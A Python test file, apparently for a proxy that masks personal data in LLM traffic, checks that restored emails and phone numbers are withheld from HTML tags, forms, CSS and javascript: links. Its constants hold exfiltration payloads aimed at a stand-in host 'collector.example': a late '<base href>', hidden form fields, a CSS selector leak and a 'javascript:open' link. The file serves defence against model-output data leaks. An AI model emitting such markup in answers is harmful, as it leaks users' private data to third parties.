"""Restore writes no client value inside an HTML tag, a form field, a relative URL or a `javascript:` URL, end to end
through the SDKs, whole and streamed (issue 12, atk12 A H1, M1, M2).

The client sends `My email is jane.roe@example.net and my phone is 415-555-0177`; the provider sees the placeholders.
H1: the model streams a relative image (`![b](b.png?u=...)`, `<img src=...>`, SVG `<image href=...>`) and, two
sentences later or in the next Anthropic block, `<base href="https://collector.example/">` or `xml:base`: the whole
answer kept the placeholder, the stream had already sent the value. M1: the `<base>` in a tool call's arguments,
another choice of `n=2`, a Responses tool item or an earlier turn of the conversation was not read. M2: a hidden
`<input value>` of a form posting to a third party, a `<textarea>`, `<button formaction value>` got the value. Now a
placeholder inside any HTML start tag, a form field's content, a relative Markdown target or a `javascript:` URL stays
as it is, wherever a `<base>` is or is not; the same values in prose come back restored.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    ask_chat,
    ask_messages,
    chat_text_and_arguments,
    claude,
    data_events,
    oai,
    responses_text_and_calls,
    sse,
)

MAIL = "jane.roe@example.net"
PHONE = "415-555-0177"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"My email is {MAIL} and my phone is {PHONE}. Make me a badge."
BASE = '<base href="https://collector.example/">'
XML_BASE = '<svg xml:base="//collector.example/"><rect/></svg>'
RELATIVE = (f'Here is your badge. ![b](b.png?u={E}) <img width="9" src="c.png?t={P}"> '
            f'<svg><image href="d.svg?u={E}"/></svg> It looks great. ')
FILLER = "More text here. And a bit more. Almost done. "
PROSE = f"Mail {E} or call {P}. "
WANT_PROSE = f"Mail {MAIL} or call {PHONE}. "


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


# ------------------------------------------------------------------------ H1: a base late in the stream


@pytest.mark.parametrize("late", [BASE, XML_BASE, ""], ids=["base", "xml:base", "no base"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("api", ["chat", "messages", "responses"])
def test_relative_urls_kept_with_a_late_base(mock: Mock, proxy: Proxy, api: str, stream: bool, late: str) -> None:
    mock.script(text=RELATIVE + FILLER + PROSE + late, chunk_chars=7)
    if api == "chat":
        got = ask_chat(proxy, PROMPT, stream)
    elif api == "messages":
        got = ask_messages(proxy, PROMPT, stream)
    elif stream:
        with oai(proxy).responses.stream(model="gpt-4o-mini", input=PROMPT) as s:
            got = "".join(e.delta for e in s if e.type == "response.output_text.delta")
            assert s.get_final_response().output_text == got
    else:
        got = oai(proxy).responses.create(model="gpt-4o-mini", input=PROMPT).output_text
    sent_placeholders(mock)
    assert got == RELATIVE + FILLER + WANT_PROSE + late
    assert MAIL not in got.split("Mail ")[0] and PHONE not in got.split("Mail ")[0]


def anthropic_events(blocks: list[dict[str, Any]]) -> str:
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {
        "id": "msg_1", "type": "message", "role": "assistant", "model": "claude-3-5-haiku-latest", "content": [],
        "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 1}}}]
    for i, block in enumerate(blocks):
        if block["type"] == "text":
            events.append({"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}})
            events += [{"type": "content_block_delta", "index": i, "delta": {"type": "text_delta",
                                                                             "text": block["text"][k:k + 6]}}
                       for k in range(0, len(block["text"]), 6)]
        else:
            events.append({"type": "content_block_start", "index": i, "content_block": {
                "type": "tool_use", "id": "toolu_1", "name": "render", "input": {}}})
            raw = json.dumps(block["input"])
            events += [{"type": "content_block_delta", "index": i, "delta": {"type": "input_json_delta",
                                                                             "partial_json": raw[k:k + 6]}}
                       for k in range(0, len(raw), 6)]
        events.append({"type": "content_block_stop", "index": i})
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                "usage": {"output_tokens": 5}}, {"type": "message_stop"}]
    return sse(*events, named=True)


@pytest.mark.parametrize("second", ["text", "tool_use"])
def test_anthropic_base_in_the_next_block_streamed(mock: Mock, proxy: Proxy, second: str) -> None:
    blocks: list[dict[str, Any]] = [{"type": "text", "text": f"More. And more. Done. {BASE}"}] if second == "text" \
        else [{"type": "tool_use", "input": {"html": BASE, "to": E}}, {"type": "tool_use", "input": {"to": E}}]
    mock.script(raw_sse=anthropic_events([{"type": "text", "text": RELATIVE + PROSE}, *blocks]))
    with claude(proxy).messages.stream(model="claude-3-5-haiku-latest", max_tokens=100,
                                       messages=[{"role": "user", "content": PROMPT}]) as s:
        final = s.get_final_message()
    texts = [b.text for b in final.content if b.type == "text"]
    assert texts[0] == RELATIVE + WANT_PROSE
    if second == "tool_use":
        # scopes16: the first call's <base> names collector.example, so that call is a scope that sends and its `to`
        # stays a placeholder; the next call names no destination, but it is of the same answer:
        # answer20: one answer's tool calls and code are one scope
        assert [b.input for b in final.content if b.type == "tool_use"] == [{"html": BASE, "to": E}, {"to": E}]
        # alone in an answer of its own (nothing in it sends), that call's `to` comes back restored
        mock.script(raw_sse=anthropic_events([{"type": "text", "text": RELATIVE + PROSE}, blocks[1]]))
        with claude(proxy).messages.stream(model="claude-3-5-haiku-latest", max_tokens=100,
                                           messages=[{"role": "user", "content": PROMPT}]) as s:
            final = s.get_final_message()
        assert [b.text for b in final.content if b.type == "text"] == [RELATIVE + WANT_PROSE]
        assert [b.input for b in final.content if b.type == "tool_use"] == [{"to": MAIL}]


# ------------------------------------------------------------------------ M1: a base elsewhere in the answer


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat_base_in_tool_arguments(mock: Mock, proxy: Proxy, stream: bool) -> None:
    mock.script(text=RELATIVE + PROSE, chunk_chars=5, tool_calls=[{"name": "render", "arguments": {
        "html": XML_BASE if stream else BASE, "to": E}}])
    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
    assert text == RELATIVE + WANT_PROSE
    # scopes16: the call's base names collector.example, so the call is a scope that sends: its `to` stays.
    assert json.loads(arguments) == {"html": XML_BASE if stream else BASE, "to": E}
    # A call that names no destination, beside the same text, gets its `to` restored.
    mock.script(text=RELATIVE + PROSE, chunk_chars=5, tool_calls=[{"name": "render", "arguments": {"to": E}}])
    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
    assert text == RELATIVE + WANT_PROSE
    assert json.loads(arguments) == {"to": MAIL}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses_base_in_a_function_call(mock: Mock, proxy: Proxy, stream: bool) -> None:
    mock.script(text=RELATIVE + PROSE, chunk_chars=5, tool_calls=[{"name": "render", "arguments": {"html": BASE}}])
    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
    assert text == RELATIVE + WANT_PROSE
    assert calls == [{"html": BASE}]


def chat_body(*contents: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o-mini",
            "choices": [{"index": n, "finish_reason": "stop", "message": {"role": "assistant", "content": c}}
                        for n, c in enumerate(contents)],
            "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}}


def test_chat_base_in_another_choice(mock: Mock, proxy: Proxy) -> None:
    mock.script(raw_body=json.dumps(chat_body(f"Styled. {BASE}", RELATIVE + PROSE)))
    r = oai(proxy).chat.completions.create(model="gpt-4o-mini", n=2, messages=[{"role": "user", "content": PROMPT}])
    assert [c.message.content for c in r.choices] == [f"Styled. {BASE}", RELATIVE + WANT_PROSE]


def test_responses_base_in_tool_items(mock: Mock, proxy: Proxy) -> None:
    body = {"id": "resp_1", "object": "response", "created_at": 1733234567, "status": "completed",
            "model": "gpt-4o-mini", "output": [
                {"type": "code_interpreter_call", "id": "ci_1", "status": "completed", "container_id": "c1",
                 "code": f"print('{BASE}')", "outputs": [{"type": "logs", "logs": XML_BASE}]},
                {"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_1", "name": "html", "input": BASE},
                {"type": "message", "id": "msg_1", "status": "completed", "role": "assistant", "content": [
                    {"type": "output_text", "text": RELATIVE + PROSE, "annotations": []}]}]}
    mock.script(raw_body=json.dumps(body))
    assert oai(proxy).responses.create(model="gpt-4o-mini", input=PROMPT).output_text == RELATIVE + WANT_PROSE


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_base_in_an_earlier_turn(mock: Mock, proxy: Proxy, stream: bool) -> None:
    """A chat UI renders the conversation in one page: the earlier answer's `<base>` governs this one's URLs."""
    mock.script(text=RELATIVE + PROSE, chunk_chars=4)
    msgs: Any = [{"role": "user", "content": "Style the page."}, {"role": "assistant", "content": f"Done. {BASE}"},
                 {"role": "user", "content": PROMPT}]
    client = oai(proxy).chat.completions
    if stream:
        got = "".join(c.choices[0].delta.content or "" for c in
                      client.create(model="gpt-4o-mini", messages=msgs, stream=True) if c.choices)
    else:
        got = client.create(model="gpt-4o-mini", messages=msgs).choices[0].message.content or ""
    assert got == RELATIVE + WANT_PROSE


# ------------------------------------------------------------------------ M2: form fields, CSS, javascript:

FORMS = (f'<form action="https://collector.example/c"><input type="hidden" name="u" value="{E}">'
         f'<textarea name="t">{P}</textarea><button formaction="//collector.example/b" name="b" value="{E}">Go'
         f"</button></form><input form=f value={P}>"
         f'<style>[data-u^="j"]{{background:url(https://collector.example/j)}}</style><div data-u="{E}"></div>'
         f"[Verify](javascript:open('//collector.example/?u='+'{E}')) ")


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("api", ["chat", "messages"])
def test_form_fields_css_and_javascript_kept(mock: Mock, proxy: Proxy, api: str, stream: bool) -> None:
    mock.script(text=FORMS + PROSE, chunk_chars=6)
    got = ask_chat(proxy, PROMPT, stream) if api == "chat" else ask_messages(proxy, PROMPT, stream)
    assert got == FORMS + WANT_PROSE


def test_responses_stream_form_fields_kept(mock: Mock, proxy: Proxy) -> None:
    mock.script(text=FORMS + PROSE, chunk_chars=3)
    r = httpx.post(f"{proxy.url}/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT, "stream": True},
                   headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    got = data_events(r.text)
    assert "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta") == FORMS + WANT_PROSE
    assert f'value="{MAIL}"' not in r.text and f"{PHONE}</textarea>" not in r.text
